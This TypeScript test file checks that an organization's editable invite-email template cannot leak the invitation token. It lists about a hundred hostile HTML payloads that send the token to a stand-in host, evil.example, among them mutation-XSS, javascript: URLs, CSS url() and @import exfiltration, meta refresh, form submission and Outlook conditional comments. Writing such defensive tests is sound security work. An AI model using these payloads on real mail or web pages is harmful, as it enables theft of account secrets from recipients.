/**
 * An invite template cannot send the invitation's secret anywhere but into its one link or text, however
 * its markup is read. Each mail is parsed again as browsers do, and its tree is looked at.
 */
import * as fc from "fast-check";
import { defaultTreeAdapter, type DefaultTreeAdapterTypes, parse } from "parse5";
import { describe, expect, test } from "vitest";
import { faultIn, renderInvite } from "../../src/domain/organization/invite-template.ts";
import { plainText } from "../../src/platform/mail/plain-text.ts";
import { effort } from "../support/effort.ts";

const secret = "mst_inv_SECRET";
const link = `https://muster.test/accept-invitation#token=${secret}`;
const values = {
  inviteLink: link,
  organizationName: "Engines",
  firstName: "Ada",
  lastName: "Byron",
  name: "Ada Byron",
  email: "ada@example.com",
  expiresAt: "2026-03-15",
};
const render = (html: string) =>
  renderInvite({ subject: "s", html, introMessage: "i" }, values).html;

interface Seen {
  readonly elements: DefaultTreeAdapterTypes.Element[];
  readonly texts: string[];
}

/** All that a reader of HTML finds, with and without scripts. */
function seenIn(html: string): Seen {
  const elements: DefaultTreeAdapterTypes.Element[] = [];
  const texts: string[] = [];
  const look = (node: DefaultTreeAdapterTypes.ParentNode) => {
    for (const child of node.childNodes) {
      if (defaultTreeAdapter.isElementNode(child)) {
        elements.push(child);
        look(child);
        if (child.tagName === "template") look((child as DefaultTreeAdapterTypes.Template).content);
      } else if (defaultTreeAdapter.isTextNode(child)) texts.push(child.value);
      else expect(defaultTreeAdapter.isDocumentTypeNode(child), "a comment").toBe(false);
    }
  };
  look(parse(html, { scriptingEnabled: false }));
  return { elements, texts };
}

const harmless = new Set(
  (
    "html head body a b big blockquote br caption center code div em h1 h2 h3 h4 h5 h6 hr i img li ol p " +
    "s small span strong sub sup table tbody td tfoot th thead tr u ul"
  ).split(" "),
);

/** Fails if the secret, or anything that runs or fetches, is where it must not be. */
function expectNoLeak(html: string): void {
  const { elements, texts } = seenIn(html);
  for (const { tagName, namespaceURI, attrs } of elements) {
    expect(harmless).toContain(tagName);
    expect(namespaceURI).toBe("http://www.w3.org/1999/xhtml");
    for (const { name, value } of attrs) {
      const isLink = tagName === "a" && name === "href";
      if (value.includes(secret)) expect(`${tagName} ${name} ${value}`).toBe(`a href ${link}`);
      if (isLink) expect(value).toMatch(/^(?:https?|mailto):/);
      if (tagName === "img" && name === "src") expect(value).toMatch(/^https:/);
      expect(name).not.toMatch(
        /^on|^(?:srcset|ping|formaction|action|target|background|poster|data)$/,
      );
      if (name === "style") expect(value).not.toMatch(/[\\@()/<>]/);
    }
  }
  for (const word of texts.flatMap((text) => text.split(/\s/))) {
    if (word.includes(secret)) expect(word).toBe(link);
  }
  // A mail program makes links of addresses in the text part: the invite link begins and ends with space.
  for (const [word] of plainText(html, link)
    .replaceAll(`<${link}>`, "")
    .matchAll(/\S*SECRET\S*/g)) {
    expect(word).toBe(link);
  }
}

const evil = "http://evil.example/?";
const bypasses = [
  // Markup that parsers read differently.
  `<![CDATA[><a href='${evil}]]>{inviteLink}'>x</a>`,
  `<!-- --!><a href='${evil}{inviteLink}'>x</a> -->`,
  `<!--><a href='${evil}{inviteLink}'>x</a>-->`,
  `<!---><img src='${evil}{inviteLink}'>-->`,
  `<!-- <!-- --><img src='${evil}{inviteLink}'> -->`,
  `<!x><img src="${evil}{inviteLink}">`,
  `<?xml ><img src='${evil}?>{inviteLink}'>`,
  `</ ><img src='${evil}{inviteLink}'>`,
  `<noembed><img title="</noembed><img src='${evil}{inviteLink}'>"></noembed>`,
  `<noframes><style></noframes><img src='${evil}{inviteLink}'></style>`,
  `<noscript><p title="</noscript><img src='${evil}{inviteLink}'>"></noscript>`,
  `<noscript><style></noscript><a href='${evil}{inviteLink}'>x</a></style></noscript>`,
  `<xmp><p title="</xmp><img src='${evil}{inviteLink}'>"></xmp>`,
  `<iframe><p title="</iframe><img src='${evil}{inviteLink}'>"></iframe>`,
  `<title><p title="</title><img src='${evil}{inviteLink}'>"></title>`,
  `<textarea><p title="</textarea><img src='${evil}{inviteLink}'>"></textarea>`,
  `<plaintext><img src='${evil}{inviteLink}'>`,
  `<listing><img src="${evil}{inviteLink}"></listing>`,
  `<template><img src='${evil}{inviteLink}'></template>`,
  `<select><option><img src='${evil}{inviteLink}'>{inviteLink}</select>`,
  `<select><style></select><img src='${evil}{inviteLink}'></style>`,
  `<frameset><frame src="${evil}{inviteLink}"></frameset>`,
  // Mutations (mXSS): what is written must be read back as the same tree.
  `<svg><style><a title="</style><img src='${evil}{inviteLink}'>">`,
  `<svg></p><style><a id="</style><img src='${evil}{inviteLink}'>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${evil}{inviteLink}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src='${evil}{inviteLink}'>`,
  `<svg><foreignObject><p><a href="${evil}{inviteLink}">x</a></foreignObject></svg>`,
  `<svg><desc><noscript></desc><img src='${evil}{inviteLink}'></noscript></svg>`,
  `<svg><title><a href="{inviteLink}">x</a></title></svg>`,
  `<svg><a xlink:href="${evil}{inviteLink}"><text>x</text></a></svg>`,
  `<svg><a href="{inviteLink}"><animate attributeName=href to='${evil}{inviteLink}'></a></svg>`,
  `<svg><![CDATA[<img src='${evil}{inviteLink}'>]]></svg>`,
  `<svg><script>{inviteLink}</script></svg>`,
  `<math><annotation-xml encoding="text/html"><style></annotation-xml><img src='${evil}{inviteLink}'></style>`,
  `<math href="${evil}{inviteLink}">x</math>`,
  `<a href="${evil}"><table><tr><td><a href="{inviteLink}">x</a></td></tr></table>`,
  // Elements and attributes that fetch, submit or move.
  `<base href="${evil}"><a href="{inviteLink}">x</a>`,
  `<meta http-equiv="refresh" content="0;url=${evil}{inviteLink}">`,
  `<meta http-equiv="refresh" content="0;url={inviteLink}">`,
  `<link rel="stylesheet" href="${evil}{inviteLink}">`,
  `<link rel="prefetch" href="${evil}">{inviteLink}`,
  `<img srcset="${evil}{inviteLink} 2x">`,
  `<img src="{inviteLink}">`,
  `<img src="http://evil.example/a.png">`,
  `<img src='https://evil.example/?{inviteLink}'>`,
  `<img src='https://evil.example/?&#123;inviteLink&#125;'>`,
  `<img src='https://evil.example/?{inviteLink} alt='x'>`,
  `<a href="{inviteLink}" ping="${evil}">x</a>`,
  `<a href="{inviteLink}" target="x">x</a>`,
  `<a href="{inviteLink}" target="<img src='${evil}">x</a>`,
  `<a href="{inviteLink}" onclick="fetch('${evil}'+this.href)">x</a>`,
  `<a href="{inviteLink}" referrerpolicy="unsafe-url" download>x</a>`,
  `<a href="${evil}">{inviteLink}</a>`,
  `<a href="${evil}"><b><i>{inviteLink}</i></b></a>`,
  `<a href="${evil}{inviteLink}">x</a>`,
  `<a href="{inviteLink}.evil.example">x</a>`,
  `<a href="{inviteLink}@evil.example">x</a>`,
  `<a href="mailto:evil@evil.example?body={inviteLink}">x</a>`,
  `<form action="${evil}"><input name=x value="{inviteLink}"><button>Go</button></form>`,
  `<form action="${evil}"><textarea name=x>{inviteLink}</textarea></form>`,
  `<button formaction="${evil}" name=x value="{inviteLink}">Go</button>`,
  `<input type=image src="${evil}" formaction="${evil}">{inviteLink}`,
  `<iframe srcdoc="<img src='${evil}{inviteLink}'>"></iframe>`,
  `<object data="${evil}{inviteLink}">{inviteLink}</object>`,
  `<embed src="${evil}{inviteLink}">`,
  `<video poster="${evil}{inviteLink}"><source src="${evil}{inviteLink}"></video>`,
  `<body background="${evil}{inviteLink}">{inviteLink}`,
  `<table background="${evil}{inviteLink}"><tr><td>x</table>`,
  `<v:rect href="${evil}{inviteLink}">x</v:rect>`,
  `<html manifest="${evil}{inviteLink}">x`,
  `<constructor>{inviteLink}</constructor>`,
  `<p constructor="{inviteLink}" __proto__="x">x</p>`,
  // Addresses that are disguised.
  `<a href="javascript:alert('{inviteLink}')">x</a>`,
  `<a href="java&#10;script:alert(1)">{inviteLink}</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="&#1;javascript:alert(1)">x</a>`,
  `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="data:text/html,<img src='${evil}{inviteLink}'>">x</a>`,
  `<a href="//evil.example/{inviteLink}">x</a>`,
  `<a href="\\\\evil.example\\share">x</a>`,
  `<a href="file://evil.example/share">x</a>`,
  `<a href="https://muster.test@evil.example/">x</a>`,
  `<a href="/relative">x</a>`,
  // Styles.
  `<style>@import '${evil}{inviteLink}';</style>`,
  `<style>@import '${evil}';</style>{inviteLink}`,
  `<style>a[href*="token=mst_inv_a"]{background:url(${evil}a)}</style><a href="{inviteLink}">x</a>`,
  `<p style="background:url(${evil}{inviteLink})">x</p>`,
  `<p style="background-color:red;background:\\75rl(${evil})">{inviteLink}</p>`,
  `<p style="color:red;/*{inviteLink}*/">x</p>`,
  `<p style="width:expression(alert(1))">{inviteLink}</p>`,
  `<p style="behavior:url(${evil})">{inviteLink}</p>`,
  `<p style="-moz-binding:url(${evil})">{inviteLink}</p>`,
  `<p style="content:attr(title)" title="{inviteLink}">x</p>`,
  `<p style="position:fixed;top:0">{inviteLink}</p>`,
  // Conditional comments of mail programs.
  `<!--[if mso]><img src="${evil}{inviteLink}"><![endif]-->`,
  `<![if !mso]><img src='${evil}{inviteLink}'><![endif]>`,
  `<!--[if gte mso 9]><xml><v:background fill="t"><v:fill src="${evil}{inviteLink}"/></xml><![endif]-->`,
  // The parameter itself, in places and spellings where it does not stand in the source.
  `<a {inviteLink}="x">x</a>`,
  `<p id="{inviteLink}">x</p>`,
  `<p title='${evil}{inviteLink}'>x</p>`,
];

describe("a template cannot leak the invitation's secret", () => {
  test.each(bypasses)(
    "%s is refused, and if it is stored already its mail leaks nothing",
    (html) => {
      expect(faultIn("html", html)).toMatch(/not allowed/);
      const mail = render(html);
      expectNoLeak(mail);
      // Whoever was invited can still come in.
      if (html.includes("{inviteLink}")) expect(plainText(mail, link)).toContain(link);
    },
  );

  test.each([
    `${evil}{inviteLink}`,
    `{inviteLink}@evil.example`,
    `<b>${evil}</b>{inviteLink}<i>.evil.example</i>`,
    `${evil}<span>{inviteLink}</span>`,
    `<p>${evil}<!-- x -->&#123;inviteLink&#125;x</p>`,
    `{inviteLink}{inviteLink}`,
    `<{inviteLink}>x`,
    `<table><a href="${evil}"><tr><td><a href="{inviteLink}">{inviteLink}</a></table>`,
    `<p title="&lt;/p&gt;&lt;img src='${evil}">{inviteLink}<p title="'&gt;">`,
    `<h1>{inviteLink}</h1><table><tr><th>{inviteLink}</th></tr></table>`,
    `<a href="{inviteLink}">x</a>.evil.example`,
    `<a href="${evil}" href="{inviteLink}">x</a>{inviteLink}`,
    `<a href="{inviteLink}">${evil}{inviteLink}</a>`,
    `<a href=" {inviteLink} ">{inviteLink}</a>`,
    `{invite<!-- -->Link}{invite<b></b>Link}`,
  ])("text beside the link does not become part of it: %s", (html) => {
    expectNoLeak(render(html));
  });

  test("markup of any kind leaks nothing, is read back as written, and is harmless when sent again", () => {
    const piece = fc.constantFrom(
      ...bypasses.flatMap((html) => [html, ...html.split(/(?=[<>"'])/)]),
      ..."< > \" ' = / ! - -- --> <!-- ]]> <![CDATA[ & &lt; &quot; {inviteLink} {name}".split(" "),
      ...[...harmless].flatMap((name) => [`<${name}>`, `</${name}>`]),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const mail = render(pieces.join(""));
        expectNoLeak(mail);
        expectNoLeak(render(mail));
      }),
      { numRuns: effort(300, 20_000), seed: 1 },
    );
  });

  test("each markup that is saved is sent without anything left out", () => {
    const html =
      '<div style="font-family:Arial, \'Segoe UI\'; padding:8px; background-color:#fff" align="center">' +
      '<img src="https://cdn.example/logo.png" alt="Logo" width="120"><h1>Hi {name}</h1>' +
      '<table width="100%" cellpadding="0"><tr><td bgcolor="#eee" colspan="2"><a href="{inviteLink}">Join</a>' +
      '</td></tr></table><p>Help: <a href="https://help.example/?a=1&amp;b=2" title="Help">here</a><br></p></div>';
    expect(faultIn("html", html)).toBeUndefined();
    const names = (text: string) => seenIn(text).elements.map(({ tagName }) => tagName);
    expect(names(render(html))).toEqual(names(html));
  });
});

describe("a template cannot take long or take memory", () => {
  test.each([
    `${Array.from({ length: 3000 }, (_, index) => `<b a${index}>`).join("")}${"<p>x".repeat(6000)}`,
    "<div>".repeat(10_000),
    "<table>".repeat(7_000),
  ])(
    "too many elements are refused, and a stored template of that kind is sent as the first one",
    (html) => {
      expect(faultIn("html", html)).toContain("too many elements");
      expect(render(html)).toContain(`<a href="${link}">Accept the invitation</a>`);
    },
  );

  test("too deep elements are refused, and left out of a stored template's mail", () => {
    const html = `{inviteLink}${"<div>".repeat(1_000)}`;
    expect(faultIn("html", html)).toContain("at most 100 elements");
    expect(seenIn(render(html)).elements.length).toBeLessThan(120);
  });
});
